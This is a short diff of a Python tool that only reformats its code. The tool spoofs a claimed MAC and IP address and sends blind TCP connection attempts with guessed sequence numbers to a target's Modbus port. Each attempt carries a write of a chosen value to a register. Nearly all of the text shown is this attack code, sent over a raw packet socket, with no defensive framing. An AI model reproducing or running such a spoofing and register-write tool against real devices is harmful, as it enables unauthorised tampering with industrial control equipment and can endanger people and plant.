@@ -24,8 +24,9 @@ def spoofed_frames(to: frames.Addresses, register: int, value: int, rounds: int)
     """Return the frames of `rounds` blind connection attempts, each from a port of its own."""
     made = []
     for number in range(rounds):
-        attempt = frames.Addresses(to.source_mac, to.destination_mac, to.source, to.destination,
-                                   to.source_port + number, to.destination_port)
+        attempt = frames.Addresses(
+            to.source_mac, to.destination_mac, to.source, to.destination, to.source_port + number, to.destination_port
+        )
         sequence = GUESSED_SEQUENCES[number % len(GUESSED_SEQUENCES)]
         guess = GUESSED_SEQUENCES[(number + 1) % len(GUESSED_SEQUENCES)]
         made += [
@@ -61,8 +62,14 @@ def main() -> None:
     parser.add_argument("--rounds", type=int, default=8, choices=range(1, ROUNDS_MAX + 1), metavar="N")
     given = parser.parse_args()
     claimed = mac(given.claim_mac) if given.claim_mac else interface_mac(given.interface)
-    to = frames.Addresses(claimed, mac(given.target_mac), IPv4Address(given.claim_ip).packed,
-                          IPv4Address(given.target_ip).packed, 50000, MODBUS_PORT)
+    to = frames.Addresses(
+        claimed,
+        mac(given.target_mac),
+        IPv4Address(given.claim_ip).packed,
+        IPv4Address(given.target_ip).packed,
+        50000,
+        MODBUS_PORT,
+    )
     made = spoofed_frames(to, given.register, given.value, given.rounds)
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
         link.bind((given.interface, 0))
